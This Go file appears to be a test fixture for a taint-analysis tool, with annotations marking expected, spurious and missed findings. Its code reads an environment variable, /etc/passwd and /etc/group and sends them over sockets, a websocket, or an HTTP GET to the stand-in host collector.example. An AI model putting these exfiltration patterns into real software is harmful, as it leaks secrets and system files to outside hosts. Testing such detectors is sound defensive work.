// Gaps that stand.
package main

import (
	"io"
	"net"
	"net/http"
	"os"

	"github.com/gorilla/websocket"
)

// What is sent in an object of a class seems to come back in another one that the network fills: a field is one place for
// all objects.
type message struct{ Data string }

func push(c *websocket.Conn) {
	m := message{}
	m.Data = os.Getenv("A") //~ source(ENVIRONMENT) g1, source(ENVIRONMENT) g2
	c.WriteJSON(&m) //~ sink(egress.message) g1, finding(traced) g1
}

func pull(c *websocket.Conn) {
	answer := message{}
	c.ReadJSON(&answer)
	forward(answer)
}

func forward(m message) {
	http.Get("https://collector.example/u?" + m.Data) //~ sink(egress.http) g2, SPURIOUS: finding(traced) g2
}

// A library calls a method of an object of the tree that it is given.
type counted struct{ inner net.Conn }

func (c counted) Write(data []byte) (int, error) {
	return c.inner.Write(data) //~ sink(egress.socket) g3, MISSING: finding(traced) g3
}

func copied(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) g3
	io.Copy(counted{c}, f)
}

// What a function in a table makes has no type that is known.
type collector interface{ Collect() []byte }

type files struct{ path string }

func (f files) Collect() []byte {
	body, _ := os.ReadFile(f.path) //~ source(FILE) g4
	return body
}

var makers = map[string]func() collector{}

func fill() {
	makers["files"] = func() collector { return files{"/etc/group"} }
}

func collect(c net.Conn, name string) {
	c.Write(makers[name]().Collect()) //~ sink(egress.socket) g4, MISSING: finding(ambiguous) g4
}
